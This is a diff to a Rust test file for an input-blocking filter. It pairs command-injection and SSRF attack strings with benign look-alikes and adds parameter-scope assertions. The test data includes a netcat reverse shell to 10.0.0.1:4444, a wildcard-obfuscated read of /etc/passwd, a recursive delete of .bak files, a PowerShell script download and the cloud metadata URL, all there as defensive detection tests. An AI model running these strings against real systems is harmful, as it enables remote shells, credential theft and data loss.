@@ -56,6 +56,25 @@ fn attacks_and_their_benign_twins() {
         (Class::Cmdi, "$(whoami)", "cost: $5 (approx)"),
         (Class::Cmdi, "| nc -e /bin/sh 10.0.0.1 4444", "A | B"),
         (
+            Class::Cmdi,
+            "if exist C:\\boot.ini echo found",
+            "if it exists, echo me",
+        ),
+        (
+            Class::Cmdi,
+            "for /r c:\\ %f in (*.bak) do del %f",
+            "for all files in the folder",
+        ),
+        (Class::Cmdi, "IF 2 GEQ 15 echo bigger", "if 2 > 15, say so"),
+        (Class::Cmdi, "cat /e??/p?ss??", "what is this?/why?"),
+        (Class::Cmdi, "{l,-lh}s", "{a, b}"),
+        (Class::Cmdi, "nohup sh -c id", "sh is short for shell"),
+        (
+            Class::Cmdi,
+            "Invoke-WebRequest http://x/a.ps1",
+            "invoice web request",
+        ),
+        (
             Class::Ssrf,
             "http://169.254.169.254/latest/meta-data/",
             "https://example.com/latest",
@@ -191,6 +210,10 @@ fn sources_scope_rules() {
     assert!(!blocks(&d, "sqlmap/1.7", SourceKind::QueryValue));
     assert!(blocks(&d, "shell.php", SourceKind::MultipartFilename));
     assert!(!blocks(&d, "shell.php", SourceKind::QueryValue));
+    // a parameter called `uname` or `cmd` is not a command line
+    assert!(blocks(&d, "uname", SourceKind::QueryValue));
+    assert!(!blocks(&d, "uname", SourceKind::QueryName));
+    assert!(!blocks(&d, "cmd", SourceKind::FormName));
 }
 
 #[test]
